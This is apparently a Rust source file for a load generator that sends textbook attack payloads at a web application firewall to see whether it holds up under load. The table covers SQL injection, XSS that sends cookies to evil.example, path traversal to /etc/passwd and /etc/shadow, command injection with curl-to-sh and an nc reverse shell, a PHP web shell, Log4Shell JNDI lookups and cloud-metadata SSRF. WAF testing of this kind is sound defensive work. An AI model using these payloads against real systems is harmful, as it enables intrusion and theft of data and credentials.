//! Attacks, written for surge: plain representatives of each family that any rule set at its lowest level refuses. They show
//! that a WAF decides under load; how good its rules are is not for a load generator to say.

/// Where a payload goes.
#[derive(Debug, Clone, Copy)]
pub enum Shape {
    /// Into a query parameter, encoded.
    Query,
    /// As path and query, as it stands.
    Path,
    /// Into a field of a form, encoded.
    Form,
    /// Into a header field.
    Header(&'static str),
}

/// Name of a list and its attacks.
pub const ATTACKS: &[(&str, &[(Shape, &str)])] = &[
    (
        "sqli",
        &[
            (Shape::Query, "7' OR 'surge'='surge' -- "),
            (Shape::Query, "-3 UNION ALL SELECT login, secret, NULL FROM members"),
            (Shape::Form, "x'; DROP TABLE orders; --"),
            (Shape::Query, "4 AND SLEEP(9)"),
            (Shape::Form, "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 #"),
            (Shape::Query, "1; EXEC xp_cmdshell('whoami')"),
            (Shape::Header("referer"), "http://shop.example/?id=9' UNION SELECT @@version -- "),
        ],
    ),
    (
        "xss",
        &[
            (Shape::Query, "<script>fetch('//evil.example/'+document.cookie)</script>"),
            (Shape::Form, "<img src=nowhere onerror=alert(document.domain)>"),
            (Shape::Query, "\"><svg onload=confirm(7)>"),
            (Shape::Form, "<a href=\"javascript:alert(4)\">read more</a>"),
            (Shape::Query, "<iframe srcdoc=\"<script>parent.alert(2)</script>\"></iframe>"),
            (Shape::Header("referer"), "http://shop.example/<script>alert(8)</script>"),
        ],
    ),
    (
        "traversal",
        &[
            (Shape::Path, "/files?name=../../../../../etc/passwd"),
            (Shape::Path, "/files?name=..%2f..%2f..%2f..%2fetc%2fshadow"),
            (Shape::Query, "....//....//....//etc/passwd"),
            (Shape::Path, "/files?name=%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
            (Shape::Query, "..\\..\\..\\windows\\win.ini"),
            (Shape::Form, "file:///etc/passwd"),
        ],
    ),
    (
        "command",
        &[
            (Shape::Query, "report.pdf; cat /etc/passwd"),
            (Shape::Form, "$(curl http://evil.example/x.sh | sh)"),
            (Shape::Query, "| nc -e /bin/sh 192.0.2.7 4444"),
            (Shape::Form, "`wget http://evil.example/drop -O /tmp/drop`"),
            (Shape::Header("user-agent"), "() { :; }; /bin/bash -c 'id'"),
            (Shape::Query, "&& powershell -enc SQBFAFgA"),
        ],
    ),
    (
        "inclusion",
        &[
            (Shape::Path, "/page?view=php://filter/convert.base64-encode/resource=index.php"),
            (Shape::Path, "/page?view=http://192.0.2.7/shell.txt%3f"),
            (Shape::Query, "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
            (Shape::Form, "<?php system($_GET['c']); ?>"),
            (Shape::Header("x-api-version"), "${jndi:ldap://evil.example:1389/a}"),
            (Shape::Query, "http://169.254.169.254/latest/meta-data/iam/"),
        ],
    ),
    (
        "probe",
        &[
            (Shape::Path, "/.git/config"),
            (Shape::Path, "/.env"),
            (Shape::Path, "/wp-config.php.bak"),
            (Shape::Path, "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
            (Shape::Header("user-agent"), "sqlmap/1.8 (https://sqlmap.org)"),
            (Shape::Header("user-agent"), "Nikto/2.5.0"),
        ],
    ),
];
